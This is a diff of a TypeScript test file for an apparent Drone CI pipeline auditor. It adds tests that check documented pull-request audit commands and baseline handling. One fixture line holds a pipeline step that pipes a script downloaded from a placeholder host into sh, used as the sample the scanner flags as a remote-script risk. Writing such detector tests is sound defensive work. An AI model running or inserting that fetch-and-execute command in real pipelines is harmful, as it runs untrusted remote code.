@@ -10,8 +10,7 @@ const pipeline = (steps: readonly string[], name = 'default'): string =>
 const build = '  - name: build\n    image: golang:latest\n    commands: [make]\n';
 const privileged = '  - name: image\n    image: plugins/kaniko:1.2.3\n    privileged: true\n';
 const script = '  - name: get\n    image: alpine@sha256:aa\n    commands:\n      - curl http://x.example/a.sh | sh\n';
-const compose =
-  'services:\n  drone:\n    image: drone/drone:2\n    ports: ["443:443"]\n    env_file: server.env\n';
+const compose = 'services:\n  drone:\n    image: drone/drone:2\n    ports: ["443:443"]\n    env_file: server.env\n';
 const open = 'DRONE_SERVER_HOST=ci.example.com\nDRONE_SERVER_PROTO=https\nDRONE_GITHUB_CLIENT_ID=abc\n';
 const closed = `${open}DRONE_REGISTRATION_CLOSED=true\nDRONE_USER_FILTER=octocat\n`;
 
@@ -48,7 +47,11 @@ describe.skipIf(!hasGit)('--diff', () => {
   });
 
   it('shows nothing for lines that moved, files that were renamed, and steps in another order', () => {
-    const folder = repository({ 'a/.drone.yml': pipeline([build, privileged, script]), 'docker-compose.yml': compose });
+    const folder = repository({
+      'a/.drone.yml': pipeline([build, privileged, script]),
+      'docker-compose.yml': compose,
+      'server.env': closed,
+    });
     git(folder, ['mv', 'a', 'b']);
     git(folder, ['mv', 'docker-compose.yml', 'compose.yml']);
     commitFiles(folder, { 'b/.drone.yml': `# x\n\n${pipeline([script, privileged, build])}`.replaceAll('\n', '\r\n') });
@@ -250,6 +253,49 @@ describe.skipIf(!hasGit)('--diff', () => {
     rmSync(join(folder, 'ran'), { force: true });
     expect(diff(folder, 'main').status).toBe(1);
     expect(execFileSync('ls', ['-A', folder], { encoding: 'utf8' })).not.toContain('ran');
+  });
+});
+
+describe.skipIf(!hasGit)('docs/baselines.md', () => {
+  const page = readFileSync('docs/baselines.md', 'utf8');
+
+  it('has commands for Drone that show what a pull request brings in, and nothing of what came in meanwhile', () => {
+    const commands = [...page.matchAll(/^ {6}- ((?:git|drone-audit) .*\$DRONE.*)$/gm)].map(
+      ([, command = '']) => command,
+    );
+    expect(commands).toHaveLength(2);
+    const origin = repository();
+    const sha = commitFiles(origin, { 'new/.drone.yml': pipeline([script]) }, 1_700_000_100);
+    git(origin, ['update-ref', 'refs/pull/1/head', sha]);
+    git(origin, ['checkout', '-q', 'main']);
+    commitFiles(origin, { 'late/.drone.yml': pipeline([privileged]) }, 1_700_000_200);
+    const clone = temporaryFolder();
+    // As drone/drone-git posix/clone-pull-request has them.
+    git(clone, ['init', '-q']);
+    git(clone, ['remote', 'add', 'origin', `file://${origin}`]);
+    git(clone, ['fetch', '-q', 'origin', '+refs/heads/main:']);
+    git(clone, ['checkout', '-q', 'main']);
+    git(clone, ['fetch', '-q', 'origin', 'refs/pull/1/head:']);
+    git(clone, ['rebase', '-q', sha]);
+    const filled = commands.map((command) =>
+      command
+        .replace(/"([^"]*)"/, '$1')
+        .replace('$DRONE_COMMIT_SHA', sha)
+        .replace('$DRONE_TARGET_BRANCH', 'main')
+        .split(' '),
+    );
+    git(clone, filled[0]?.slice(1) ?? []);
+    const { status, stdout } = droneAudit([...(filled[1]?.slice(1) ?? []), '--format', 'unix'], { cwd: clone });
+    expect(status).toBe(1);
+    expect(stdout).toMatch(/^new\/\.drone\.yml:\d+:\d+: high remote-script: /);
+    expect(stdout.trim().split('\n')).toHaveLength(1);
+  });
+
+  it('shows a baseline that is read', () => {
+    const example = /```yaml\n(version: 1\n[\s\S]*?)```/.exec(page)?.[1] ?? '';
+    const folder = repository();
+    writeFileSync(join(folder, 'b.yml'), example);
+    expect(droneAudit(['scan', '--baseline', 'b.yml'], { cwd: folder }).status).toBe(1);
   });
 });
 
